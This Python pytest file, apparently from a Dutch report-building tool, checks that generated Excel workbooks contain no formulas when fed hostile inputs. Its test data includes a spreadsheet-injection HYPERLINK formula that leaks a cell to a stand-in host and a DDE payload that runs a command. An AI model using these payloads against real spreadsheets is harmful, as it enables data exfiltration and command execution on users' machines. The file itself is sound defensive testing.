"""The review and fact-check round as a trust boundary: what goes out and comes back stays what it was.

Every case is generated here and runs the real command in a subprocess under
the suite's limits (tests/hostile.py: 1 GB, 60 s of CPU). Packets go to the
pilots and forms and DOCX files come back from them: no value in a workbook we
send may become a formula, nothing that comes back may become source, a form
must prove which pilot and round it belongs to, and no command may overwrite
an input or the history.
"""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from docx import Document as open_docx

from report.folders import LETTER_FILE
from tests.hostile import ROOT, assert_refused, run, small_inputs
from tests.tracked import track

HYPERLINK = '=HYPERLINK("https://example.invalid/?d="&C7,"x")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE_ANSWERS = {"P1": HYPERLINK, "P5": DDE, "A1": "=1+1", "P3": "+1+1", "P4": "@SUM(A1)", "A5": "-2+3"}


def _hostile_inputs(folder: Path) -> Path:
    inputs = small_inputs(folder, answers={"T002": HOSTILE_ANSWERS})
    shutil.copy(ROOT / "inputs" / LETTER_FILE, inputs / LETTER_FILE)
    return inputs


def _cells(path: Path):
    """Every cell of every sheet (hidden ones too), as openpyxl reads it with formulas kept."""
    workbook = openpyxl.load_workbook(path)
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(path: Path) -> list[str]:
    """No formula in the package (any sheet's XML) nor as openpyxl reads it; returns the texts."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = package.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, (path.name, name)
    cells = _cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
    return [str(c.value) for c in cells if c.value is not None]


def test_no_workbook_a_command_writes_holds_a_formula(tmp_path):
    inputs = _hostile_inputs(tmp_path / "invoer")
    out = tmp_path / "uit"
    word = open_docx()
    paragraph = word.add_paragraph("Een tekst van elders.")
    track(paragraph, "elders", "=1+1", HYPERLINK)
    word.add_paragraph(DDE)
    word.save(tmp_path / "terug.docx")
    commands = {
        "vragenlijst": ("vragenlijst", "--variant", "lang", "--titel", DDE, "-o", str(out / "v.xlsx")),
        "codering": ("codering", "--inputs", str(inputs), "-o", str(out / "c.xlsx")),
        "figuren": ("figuren", "--inputs", str(inputs), "--output", str(out / "figuren")),
        "wederhoor": ("wederhoor", "--inputs", str(inputs), "--output", str(out)),
        "opmerkingen": ("opmerkingen", str(tmp_path / "terug.docx"), "--inputs", str(inputs),
                        "-o", str(out / "lijst.xlsx")),
    }
    for name, args in commands.items():
        code, output = run(*args)
        assert code == 0 and "Traceback" not in output, (name, output)
    written = sorted(out.rglob("*.xlsx"))
    assert {p.name for p in written} >= {"v.xlsx", "c.xlsx", "figuurdata.xlsx", "overzicht.xlsx",
                                         "wederhoorformulier-T002.xlsx", "lijst.xlsx"}
    texts = {path.name: _assert_no_formula(path) for path in written}
    assert DDE in texts["v.xlsx"][0]
    assert HYPERLINK in texts["c.xlsx"], [t for t in texts["c.xlsx"] if "HYPER" in t]
    assert {HYPERLINK, DDE} <= set(texts["overzicht.xlsx"])
    form = texts["wederhoorformulier-T002.xlsx"]
    assert "=1+1" in form and form.count("=1+1") >= 2             # shown and in the hidden sheet
    assert "=1+1" in texts["lijst.xlsx"]
